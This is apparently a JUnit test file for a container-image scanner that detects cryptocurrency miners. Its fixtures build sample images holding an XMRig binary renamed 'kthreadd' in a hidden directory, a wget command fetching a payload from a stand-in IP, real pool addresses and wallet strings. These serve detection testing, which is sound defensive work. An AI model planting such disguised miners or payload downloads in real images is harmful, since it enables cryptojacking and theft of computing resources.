package dev.contraband.detect.miner;

import dev.contraband.detect.Finding;
import dev.contraband.layer.Compression;
import dev.contraband.sample.ImageBuilder;
import dev.contraband.sample.ImageWriter;
import dev.contraband.sample.LayerBuilder;
import dev.contraband.scan.ImageReport;
import dev.contraband.scan.Scans;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Miners through the whole pipeline. */
class MinerDetectionTest {
    @TempDir
    Path tmp;

    private ImageReport scan(ImageBuilder b) throws IOException {
        ImageWriter.ociLayout(tmp.resolve("img"), "t", b.build());
        return Scans.scan("oci:" + tmp.resolve("img"));
    }

    private static List<Finding> of(ImageReport r, String rule) {
        return r.findings().stream().filter(f -> f.rule().id().equals(rule)).toList();
    }

    @Test
    void scan_renamedXmrigWithConfigAndCmd_maliciousWithPoolAndWalletInTheExplanation() throws IOException {
        String wallet = MinerTestImages.moneroWallet(7);
        String config = """
                {"autosave": true, "cpu": {"enabled": true}, "donate-level": 0,
                 "pools": [{"url": "pool.supportxmr.com:3333", "user": "%s", "pass": "x", "nicehash": false}]}
                """.formatted(wallet);
        ImageReport r = scan(ImageBuilder.create()
                .layer(LayerBuilder.create().file("/etc/os-release", "ID=debian\n"), Compression.GZIP, "ADD rootfs /")
                .layer(LayerBuilder.create().file("/opt/.cache/kthreadd", MinerTestImages.xmrig(), 0755)
                                .file("/opt/.cache/config.json", config),
                        Compression.GZIP, "/bin/sh -c wget -q http://203.0.113.9/k -O /opt/.cache/kthreadd")
                .cmd("/opt/.cache/kthreadd", "-o", "pool.supportxmr.com:3333", "-u", wallet, "--donate-level", "1"));
        Finding binary = of(r, "miner.binary").getFirst();
        assertThat(binary.message()).isEqualTo("XMRig 6.21.0 at /opt/.cache/kthreadd");
        assertThat(binary.severity().id()).isEqualTo("critical");
        assertThat(of(r, "miner.config")).singleElement().satisfies(f -> assertThat(f.indicator()).isEqualTo("pool.supportxmr.com:3333"));
        assertThat(of(r, "miner.command-line")).isNotEmpty();
        assertThat(of(r, "miner.wallet")).isNotEmpty().allSatisfy(f -> {
            assertThat(f.indicator()).isEqualTo(wallet);
            assertThat(f.severity().id()).isEqualTo("high");
        });
        assertThat(r.verdict().status().id()).isEqualTo("malicious");
        assertThat(r.verdict().explanation()).startsWith("XMRig 6.21.0 at /opt/.cache/kthreadd (layer 1, `wget -q http://203.0.113.9/k")
                .contains(" mining to pool.supportxmr.com:3333 for wallet " + wallet.substring(0, 8) + "…");
    }

    @Test
    void scan_stratumInEntrypointScriptAndEnv_foundInScriptsConfigAndHistory() throws IOException {
        ImageReport r = scan(ImageBuilder.create()
                .layer(LayerBuilder.create().file("/usr/local/bin/start.sh",
                                "#!/bin/sh\n# start\nexec /usr/bin/sysupdate -a rx/0 \\\n  -o stratum+tcp://xmr.example.net:4444 -u x --cpu-max-threads-hint=90\n"),
                        Compression.GZIP, "/bin/sh -c echo stratum+ssl://gulf.moneroocean.stream:20128 > /etc/p")
                .env("POOL=stratum+tcp://pool.example.org:3333")
                .entrypoint("/usr/local/bin/start.sh"));
        assertThat(of(r, "miner.stratum-url")).extracting(Finding::indicator)
                .contains("xmr.example.net:4444", "pool.example.org:3333", "gulf.moneroocean.stream:20128");
        Finding script = of(r, "miner.stratum-url").stream().filter(f -> "/usr/local/bin/start.sh".equals(f.path())).findFirst().orElseThrow();
        assertThat(((dev.contraband.detect.Location.File) script.location()).line()).isEqualTo(4);
        assertThat(of(r, "miner.command-line")).isNotEmpty();
    }

    @Test
    void scan_documentationMentioningXmrig_notMalicious() throws IOException {
        String readme = """
                # Mining with XMRig
                Run `xmrig -o pool.supportxmr.com:3333 -u YOUR_WALLET --donate-level 1 --cpu-max-threads-hint 50`.
                Options: --donate-level, --cpu-max-threads-hint, randomx, rx/wow, argon2/chukwa, keepalived, nicehash,
                huge-pages. Example wallet: %s
                """.formatted(MinerTestImages.moneroWallet(3));
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/usr/share/doc/mining/README.md", readme)
                .file("/srv/blog/xmrig-howto.html", "<p>" + readme + "</p>")));
        assertThat(of(r, "miner.binary")).isEmpty();
        assertThat(r.verdict().status().id()).isNotEqualTo("malicious");
        assertThat(r.findings()).allSatisfy(f -> assertThat(f.context()).isEqualTo(Documentation.CONTEXT));
    }

    @Test
    void scan_binaryWithTooFewStrings_notAMiner() throws IOException {
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/usr/bin/tool", MinerTestImages.elfWith("randomx", "nicehash", "wallet", "coin"), 0755)));
        assertThat(of(r, "miner.binary")).isEmpty();
    }

    @Test
    void scan_upxPackedElf_reported() throws IOException {
        byte[] elf = MinerTestImages.elfWith("$Info: This file is packed with the UPX executable packer $");
        byte[] packed = elf.clone();
        System.arraycopy("UPX!".getBytes(StandardCharsets.ISO_8859_1), 0, packed, 0xec, 4);
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create().file("/usr/bin/packed", packed, 0755)));
        assertThat(of(r, "miner.upx-packed")).singleElement().satisfies(f -> assertThat(f.path()).isEqualTo("/usr/bin/packed"));
    }

    @Test
    void scan_bareMoneroShapeWithoutChecksum_noWallet() throws IOException {
        String w = MinerTestImages.moneroWallet(5);
        String broken = w.substring(0, 60) + (w.charAt(60) == 'z' ? 'y' : 'z') + w.substring(61);
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create().file("/usr/lib/data.txt", "key " + broken + "\n")));
        assertThat(of(r, "miner.wallet")).isEmpty();
    }

    @Test
    void scan_walletAlone_lowSeverity() throws IOException {
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/app/donate.conf", "tips: " + MinerTestImages.moneroWallet(9) + " and 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed\n")));
        assertThat(of(r, "miner.wallet")).singleElement().satisfies(f -> assertThat(f.severity().id()).isEqualTo("low"));
        assertThat(r.verdict().status().id()).isEqualTo("clean");
    }
}
